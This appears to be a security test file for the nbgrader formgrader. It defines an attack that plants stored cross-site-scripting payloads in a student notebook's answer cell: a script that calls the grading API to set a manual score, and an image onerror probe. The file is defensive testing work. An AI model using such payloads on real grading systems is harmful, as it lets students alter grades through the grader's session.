"""Writes scripts into its text cells: the answer to the question that a person reads in formgrader, with the person's rights."""

import nbformat

from tests.attacks import Attack

SCRIPT = "I think so.\n\n<script>fetch('/formgrader/api/grade/1', {method: 'PUT', body: '{\"manual_score\": 3}'})</script>\n\n<img src=x onerror=alert(1)>\n"


def edit(notebook):
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "reflection":
            cell.source = SCRIPT
    notebook.cells.append(nbformat.v4.new_markdown_cell(SCRIPT))


attack = Attack(edit=edit, gains="page")
